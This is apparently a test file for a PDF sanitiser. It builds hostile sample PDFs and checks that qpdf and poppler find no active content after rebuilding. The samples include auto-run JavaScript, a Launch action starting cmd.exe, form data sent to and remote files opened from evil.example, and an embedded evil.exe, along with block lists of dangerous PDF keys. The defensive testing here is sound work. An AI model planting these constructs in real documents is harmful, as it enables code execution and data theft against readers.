/**
 * PDF files judged by readers that are not ours: qpdf finds whole files and walks every object of them, poppler lists scripts and
 * attached files, reads the text and draws the pages before and after.
 */
import { execFileSync, spawnSync } from 'node:child_process'
import { globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, describe, expect, test } from 'vitest'
import { rebuildTestFile } from '../../support/disarm.ts'
import { flate, onePage, pdfFile } from '../../support/pdf.ts'

const dir = mkdtempSync(join(tmpdir(), 'sekisho-pdf-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))
const run = (program: string, ...args: string[]) => execFileSync(program, args, { cwd: dir, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], maxBuffer: 1 << 28 })

/** Paths of the file as it came and as it was rebuilt. */
async function around(name: string, bytes: Uint8Array): Promise<readonly [before: string, after: string]> {
  const result = await rebuildTestFile(new Uint8Array(bytes), 'application/pdf', { limits: { outputBytes: 64 << 20 } })
  if (result.kind === 'kept') throw new Error(`${name}: ${result.reason}`)
  writeFileSync(join(dir, `before-${name}`), bytes)
  writeFileSync(join(dir, `after-${name}`), result.file.bytes)
  return [`before-${name}`, `after-${name}`]
}

/** Warnings count, too. */
function expectSound(file: string): void {
  const { status, stdout, stderr } = spawnSync('qpdf', ['--check', file], { cwd: dir, encoding: 'utf8' })
  expect([status, stderr], stdout).toEqual([0, ''])
}

const DANGEROUS_KEYS = new Set(['/JS', '/JavaScript', '/AA', '/OpenAction', '/Launch', '/EmbeddedFiles', '/EmbeddedFile', '/EF', '/AF', '/XFA', '/RichMediaContent', '/RichMediaSettings', '/Rendition', '/Movie', '/Sound', '/3DD', '/Collection', '/PieceInfo', '/F', '/FS', '/Win'])
const DANGEROUS_NAMES = new Set(['/JavaScript', '/Launch', '/SubmitForm', '/ImportData', '/ResetForm', '/GoToR', '/GoToE', '/Rendition', '/Movie', '/Sound', '/RichMedia', '/RichMediaExecute', '/3D', '/Screen', '/FileAttachment', '/EmbeddedFile', '/Filespec', '/Named', '/Hide', '/SetOCGState', '/Thread'])

/** Every dangerous key and name that qpdf finds in any object, streams of objects included. */
function dangersOf(file: string): string[] {
  const found = new Set<string>()
  // Ends with 3 for a file that it had to mend.
  const objects: unknown[] = [JSON.parse(spawnSync('qpdf', ['--json', file], { cwd: dir, encoding: 'utf8', maxBuffer: 1 << 28 }).stdout)]
  for (let value = objects.pop(); value !== undefined; value = objects.pop()) {
    if (typeof value === 'string' && DANGEROUS_NAMES.has(value)) found.add(value)
    if (typeof value !== 'object' || value === null) continue
    for (const [key, inner] of Object.entries(value)) {
      // The flags of an annotation are a number under the same key as a file; a view to open with is a list.
      const isPlain = (key === '/F' && typeof inner === 'number') || (key === '/OpenAction' && Array.isArray(inner))
      if (DANGEROUS_KEYS.has(key) && !isPlain) found.add(key)
      objects.push(inner)
    }
  }
  return [...found].sort()
}

const pagesOf = (file: string): Buffer => execFileSync('pdftoppm', ['-r', '60', file], { cwd: dir, stdio: ['ignore', 'pipe', 'ignore'], maxBuffer: 1 << 28 })
const textOf = (file: string) => run('pdftotext', '-layout', file, '-')
const attachments = (file: string) => Number(/^(\d+) embedded/m.exec(run('pdfdetach', '-list', file))?.[1])

const SPEC = '<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 6 0 R>>>>'
const EVIL_FILE = flate('/Type/EmbeddedFile', 'MZ evil')
const HOSTILE: Readonly<Record<string, Uint8Array>> = {
  'script on opening': onePage({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>' }),
  'scripts by name': onePage({ catalog: '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 6 0 R>>]>>>>', more: [flate('', 'app.launchURL("http://evil.example/")')] }),
  'scripts under escaped names': onePage({ catalog: '/Open#41ction<</#53/#4aavaScript/#4aS(x)>>' }),
  'scripts of events': onePage({ page: '/AA<</O<</S/JavaScript/JS(x)>>/C<</S/JavaScript/JS(y)>>>>', catalog: '/AA<</WC<</S/JavaScript/JS(z)>>>>' }),
  'a program to start': onePage({ page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Border[0 0 0]/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>]' }),
  'another file to open': onePage({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>' }),
  'an attached file': onePage({ catalog: `/Names<</EmbeddedFiles<</Names[(evil.exe)${SPEC}]>>>>/AF[${SPEC}]`, more: [EVIL_FILE] }),
  'a portfolio': onePage({ catalog: `/Collection<</View/D>>/Names<</EmbeddedFiles<</Names[(evil.exe)${SPEC}]>>>>`, more: [EVIL_FILE] }),
  'a form of XFA': onePage({ catalog: '/AcroForm<</XFA 6 0 R/Fields[]>>', more: [flate('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>x</script></xdp:xdp>')] }),
  'data to send': onePage({ catalog: '/OpenAction<</S/SubmitForm/F(http://evil.example/)/Next<</S/ImportData/F(x.fdf)>>>>' }),
  'rich media': onePage({ page: `/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]/F 2/RichMediaContent<</Assets<</Names[(a.swf)${SPEC}]>>>>>>]`, more: [EVIL_FILE] }),
  'a film and a sound': onePage({ page: '/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 1 1]/F 2/Movie<</F(http://evil.example/x.avi)>>>><</Type/Annot/Subtype/Screen/Rect[0 0 1 1]/F 2/A<</S/Rendition/OP 0/R<</S/MR>>>>>>]' }),
  'three dimensions': onePage({ page: '/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 1 1]/F 2/3DD 6 0 R>>]', more: [flate('/Type/3D/Subtype/U3D/OnInstantiate 7 0 R', 'x'), flate('', 'host.x')] }),
  'objects inside of a stream of objects': inObjectStream(),
}

/** Catalog and action stand in an object stream, where no search for text finds them. */
function inObjectStream(): Uint8Array {
  const written = join(dir, 'plain.pdf')
  writeFileSync(written, onePage({ catalog: '/OpenAction 6 0 R', more: ['<</S/JavaScript/JS(x)>>'] }))
  execFileSync('qpdf', ['--object-streams=generate', written, join(dir, 'packed.pdf')])
  return new Uint8Array(readFileSync(join(dir, 'packed.pdf')))
}

describe('what acts is gone for qpdf and poppler, the page is the same', () => {
  test.each(Object.keys(HOSTILE))('%s', async name => {
    const [before, after] = await around(`${name.replaceAll(' ', '-')}.pdf`, HOSTILE[name]!)
    expect(dangersOf(before)).not.toEqual([])
    expect(dangersOf(after)).toEqual([])
    expectSound(after)
    expect(attachments(after)).toBe(0)
    expect(run('pdfinfo', '-js', after)).toBe('')
    expect(run('pdfinfo', after)).toMatch(/Form: +none[\s\S]*JavaScript: +no/)
    expect(textOf(after)).toBe(textOf(before))
    expect(pagesOf(after).equals(pagesOf(before))).toBe(true)
  })

  test('poppler sees what was in them before', () => {
    expect(attachments('before-an-attached-file.pdf')).toBe(1)
    expect(run('pdfinfo', 'before-a-form-of-XFA.pdf')).toMatch(/Form: +XFA/)
    expect(run('pdfinfo', '-js', 'before-scripts-by-name.pdf')).toContain('app.launchURL')
  })

  test('octets behind the end and older versions of the file', async () => {
    const first = Buffer.from(onePage({ catalog: '/OpenAction<</S/JavaScript/JS(old)>>' }))
    const update = Buffer.from(`1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\nxref\n1 1\n${String(first.length).padStart(10, '0')} 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Prev ${first.lastIndexOf('xref\n0')}>>\nstartxref\n${first.length + 46}\n%%EOF\nMZ trailing`)
    const [, after] = await around('updated.pdf', new Uint8Array(Buffer.concat([first, update])))
    expectSound(after)
    expect(readFileSync(join(dir, after)).toString('latin1')).not.toMatch(/\(old\)|MZ trailing|Prev/)
    expect(textOf(after)).toContain('Hello')
  })
})

/** Those that open without a password. */
const REAL = globSync('test/fixtures/disarm/pdf/*.pdf').filter(path => !basename(path).startsWith('user-')).sort()

describe('files of real programs stay what they are', () => {
  test('there are some', () => expect(REAL.length).toBeGreaterThan(8))

  test.each(REAL)('%s', async path => {
    const [before, after] = await around(basename(path), new Uint8Array(readFileSync(path)))
    expectSound(after)
    expect(dangersOf(after)).toEqual([])
    // LibreOffice's check box is in a state that it has no look for; poppler draws one by itself, or finds no font for it.
    const words = (file: string) => textOf(file).replaceAll('✘', '').split(/\s+/)
    expect(words(after)).toEqual(words(before))
    expect(differences(pagesOf(before), pagesOf(after))).toBeLessThan(0.001)
  })

  test('a file that qpdf attached to one of them is gone, the pages stay', async () => {
    writeFileSync(join(dir, 'evil.exe'), 'MZ')
    run('qpdf', join(process.cwd(), 'test/fixtures/disarm/pdf/ghostscript.pdf'), 'attached.pdf', '--add-attachment', 'evil.exe', '--')
    const [before, after] = await around('with-attachment.pdf', new Uint8Array(readFileSync(join(dir, 'attached.pdf'))))
    expect([attachments(before), attachments(after)]).toEqual([1, 0])
    expect(pagesOf(after).equals(pagesOf(before))).toBe(true)
  })

  test('a hundred pages are all there, in their order', async () => {
    const objects = ['<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/MediaBox[0 0 200 100]/Resources<</Font<</F 3 0 R>>>>/Count 100/Kids[${Array.from({ length: 100 }, (_, page) => `${4 + 2 * page} 0 R`).join(' ')}]>>`, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>']
    const pages = Array.from({ length: 100 }, (_, page) => [`<</Type/Page/Parent 2 0 R/Contents ${5 + 2 * page} 0 R>>`, { dict: '/Filter/FlateDecode', data: deflateSync(`BT /F 20 Tf 10 40 Td (page ${page}) Tj ET`) }]).flat()
    const [before, after] = await around('hundred.pdf', pdfFile([...objects, ...pages]))
    expectSound(after)
    expect(textOf(after)).toBe(textOf(before))
    expect(textOf(after).match(/page \d+/g)).toHaveLength(100)
  })
})

/** Share of octets of the drawn pages that differ by more than a shade; 1 when sizes differ. */
function differences(before: Buffer, after: Buffer): number {
  if (before.length !== after.length) return 1
  let count = 0
  for (let at = 0; at < before.length; at++) if (Math.abs(before[at]! - after[at]!) > 8) count++
  return count / before.length
}
